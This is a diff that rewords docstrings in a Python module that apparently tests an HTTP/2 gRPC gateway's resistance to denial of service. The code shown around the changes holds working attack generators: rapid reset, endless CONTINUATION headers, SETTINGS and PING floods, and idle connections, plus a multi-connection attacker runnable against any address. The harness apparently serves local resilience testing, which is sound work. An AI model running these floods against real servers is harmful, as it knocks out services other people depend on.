@@ -16,18 +16,18 @@ PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
 END_HEADERS: Final = 4
 SOURCE: Final = "127.0.0.2"
-"""Where attacks come from: a peer other than the gateway, which the tests run on 127.0.0.1."""
+"""The source address of attacks, so that they come from another peer than the gateway, which is on 127.0.0.1."""
 _LAST_STREAM: Final = 2**31 - 1
 _METHOD: Final = "/vilix.inference.v1.InferenceService/Generate"
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
-    """A frame of HTTP/2 (RFC 9113)."""
+    """Return a frame of HTTP/2 (RFC 9113)."""
     return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
 
 
 def header_block(method: str = _METHOD, *fields: tuple[str, str]) -> bytes:
-    """The headers of a gRPC call, as literals of HPACK (RFC 7541)."""
+    """Return the headers of a gRPC call as literals of HPACK (RFC 7541)."""
     pseudo = ((":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "test"))
     others = (("te", "trailers"), ("content-type", "application/grpc"), *fields)
     return b"".join(b"\0" + _text(name) + _text(value) for name, value in (*pseudo, *others))
@@ -39,7 +39,7 @@ def _text(text: str) -> bytes:
 
 
 def rapid_reset() -> Iterator[bytes]:
-    """Calls that are reset as soon as they are begun, 100 in one write."""
+    """Begin calls and reset each of them at once, 100 in one write."""
     block = header_block()
     streams = range(1, _LAST_STREAM, 2)
     for batch in _batches(streams, 100):
@@ -50,14 +50,14 @@ def rapid_reset() -> Iterator[bytes]:
 
 
 def unfinished_calls() -> Iterator[bytes]:
-    """Calls that are begun, and never finished."""
+    """Begin calls and never finish them."""
     block = header_block()
     for batch in _batches(range(1, _LAST_STREAM, 2), 100):
         yield b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in batch)
 
 
 def endless_continuation() -> Iterator[bytes]:
-    """The headers of one call, which do not end."""
+    """Send endless headers of one call."""
     yield frame(HEADERS, 0, 1, header_block())
     field = b"\0" + _text("x" * 100) + _text("y" * 100)
     while True:
@@ -65,19 +65,19 @@ def endless_continuation() -> Iterator[bytes]:
 
 
 def settings_flood() -> Iterator[bytes]:
-    """Settings, each of which wants an acknowledgement."""
+    """Send settings, each of which must be acknowledged."""
     while True:
         yield frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + (65_535).to_bytes(4, "big")) * 1_000
 
 
 def ping_flood() -> Iterator[bytes]:
-    """Pings, each of which wants an acknowledgement."""
+    """Send pings, each of which must be acknowledged."""
     while True:
         yield frame(PING, 0, 0, bytes(8)) * 1_000
 
 
 def idle_connections() -> Iterator[bytes]:
-    """Nothing, once connected."""
+    """Send nothing on a connection."""
     while True:
         yield b""
 
@@ -94,10 +94,10 @@ def _batches(numbers: range, size: int) -> Iterator[range]:
 
 
 class Attacker:
-    """One connection at a time, on which an attack goes on for as long as the server lets it."""
+    """An attack on one connection at a time, each for as long as the server keeps it open."""
 
     def __init__(self, name: str, address: str) -> None:
-        """`address` is HOST:PORT."""
+        """Attack the server at `address`, which is HOST:PORT."""
         host, _, port = address.rpartition(":")
         self._address = (host, int(port))
         self._attack = ATTACKS[name]
@@ -107,7 +107,7 @@ class Attacker:
         self.written = self.connections = 0
 
     def step(self) -> bool:
-        """Write as much as the server takes, and read what it answered; whether anything could be done."""
+        """Write as much as the server accepts, and read its replies. Return whether there was progress."""
         try:
             if self._connection is None:
                 self._connect()
@@ -118,7 +118,7 @@ class Attacker:
             return False
 
     def close(self) -> None:
-        """Hang up."""
+        """Close the connection."""
         if self._connection is not None:
             self._connection.close()
             self._connection = None
@@ -127,7 +127,7 @@ class Attacker:
         self._connection = socket.create_connection(self._address, timeout=1, source_address=(SOURCE, 0))
         self._connection.settimeout(5)
         self._connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
-        # The limits of the server count once they are acknowledged.
+        # The server enforces its limits once they are acknowledged.
         if not self._connection.recv(65536):
             raise ConnectionResetError
         self._connection.sendall(frame(SETTINGS, 1, 0, b""))
@@ -158,7 +158,7 @@ class Attacker:
 
 
 def main() -> None:
-    """Attack, and print what was done."""
+    """Run the attack, and print the bytes sent and the connections opened."""
     name, address, seconds, connections = sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[4])
     attackers = [Attacker(name, address) for _ in range(connections)]
     end = time.monotonic() + seconds
